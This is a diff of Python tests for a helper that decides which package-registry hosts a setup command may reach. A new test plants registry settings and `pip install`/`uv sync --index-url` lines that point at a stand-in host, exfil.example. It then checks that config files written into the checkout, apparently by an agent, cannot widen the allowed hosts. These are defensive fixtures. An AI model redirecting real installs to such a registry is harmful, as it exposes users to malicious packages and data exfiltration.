@@ -57,35 +57,46 @@ def test_pips_own_index_replaces_pypi_and_an_extra_index_adds_to_it(home: Path) 
     ]
 
 
-def test_uvs_index_from_its_variable_its_config_and_the_projects_pyproject(
-    home: Path, tmp_path: Path
-) -> None:
-    """`UV_INDEX_URL`, a default `[[index]]` in uv.toml, `[[tool.uv.index]]` in the
-    checkout (beside PyPI when not the default)."""
+def test_uvs_index_from_its_variable_and_its_config(home: Path) -> None:
+    """`UV_INDEX_URL`, a default `[[index]]` in the owner's uv.toml, an extra one beside
+    PyPI."""
     env = {"HOME": str(home), "UV_INDEX_URL": "https://uv.example/simple"}
     assert _hosts("uv sync", env) == ["uv.example"]
     conf = home / ".config" / "uv" / "uv.toml"
     conf.parent.mkdir(parents=True)
     conf.write_text('[[index]]\nurl = "https://mirror.example/simple"\ndefault = true\n')
     assert _hosts("uv pip install -e .", {"HOME": str(home)}) == ["mirror.example"]
-    checkout = tmp_path / "repo"
-    checkout.mkdir()
-    (checkout / "pyproject.toml").write_text(
-        '[[tool.uv.index]]\nname = "torch"\nurl = "https://download.pytorch.org/whl/cpu"\n'
-    )
-    conf.unlink()
-    assert _hosts("uv sync", {"HOME": str(home)}, checkout) == [
+    conf.write_text('[[index]]\nname = "torch"\nurl = "https://download.pytorch.org/whl/cpu"\n')
+    assert _hosts("uv sync", {"HOME": str(home)}) == [
         "download.pytorch.org",
         "pypi.org",
         "files.pythonhosted.org",
     ]
 
 
-def test_npms_registry_from_the_projects_npmrc_the_owners_and_the_variable(
-    home: Path, tmp_path: Path
-) -> None:
-    """npm's public registry by default (yarn's too for yarn); a `.npmrc` `registry=`
-    replaces it, a scoped one adds to it; `npm_config_registry` replaces it."""
+def test_no_host_is_taken_from_a_file_in_the_checkout(home: Path, tmp_path: Path) -> None:
+    """An agent writes the checkout: its `.npmrc`, `.yarnrc.yml`, `pyproject.toml`, `uv.toml`,
+    `Pipfile`, and an `--index-url` in a script or Makefile there name hosts that never
+    become setup's; the tools they show add only their public registries."""
+    checkout = tmp_path / "repo"
+    (checkout / "scripts").mkdir(parents=True)
+    evil = "https://exfil.example/simple"
+    (checkout / ".npmrc").write_text("registry=https://exfil.example/\n")
+    (checkout / ".yarnrc.yml").write_text("npmRegistryServer: https://exfil.example\n")
+    (checkout / "pyproject.toml").write_text(f'[[tool.uv.index]]\nurl = "{evil}"\n')
+    (checkout / "uv.toml").write_text(f'index-url = "{evil}"\n')
+    (checkout / "Pipfile").write_text(f'[[source]]\nurl = "{evil}"\n')
+    (checkout / "scripts" / "setup.sh").write_text(f"pip install --index-url {evil} .\nnpm ci\n")
+    (checkout / "Makefile").write_text(f"setup:\n\tuv sync --index-url {evil}\n")
+    for command in ("bash scripts/setup.sh", "make setup", "npm ci && uv sync"):
+        hosts = _hosts(command, {"HOME": str(home)}, checkout)
+        assert "exfil.example" not in hosts, (command, hosts)
+        assert set(hosts) <= {"pypi.org", "files.pythonhosted.org", "registry.npmjs.org"}
+
+
+def test_npms_registry_from_the_owners_npmrc_and_the_variable(home: Path) -> None:
+    """npm's public registry by default (yarn's too for yarn); the owner's `.npmrc`
+    `registry=` replaces it, a scoped one adds to it; `npm_config_registry` replaces it."""
     env = {"HOME": str(home)}
     assert _hosts("npm ci", env) == ["registry.npmjs.org"]
     assert _hosts("yarn install --frozen-lockfile", env) == [
@@ -96,10 +107,9 @@ def test_npms_registry_from_the_projects_npmrc_the_owners_and_the_variable(
         "@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=SECRET\n"
     )
     assert _hosts("pnpm install", env) == ["npm.corp.example", "registry.npmjs.org"]
-    checkout = tmp_path / "repo"
-    checkout.mkdir()
-    (checkout / ".npmrc").write_text("registry=http://127.0.0.1:4873/\n")
-    assert _hosts("npm ci", env, checkout) == ["npm.corp.example", "127.0.0.1:4873"]
+    (home / ".npmrc").write_text("registry=http://127.0.0.1:4873/\n")
+    assert _hosts("npm ci", env) == ["127.0.0.1:4873"]
+    (home / ".npmrc").write_text("@corp:registry=https://npm.corp.example/\n")
     assert _hosts("npm ci", env | {"npm_config_registry": "https://r.example/"}) == [
         "npm.corp.example",
         "r.example",
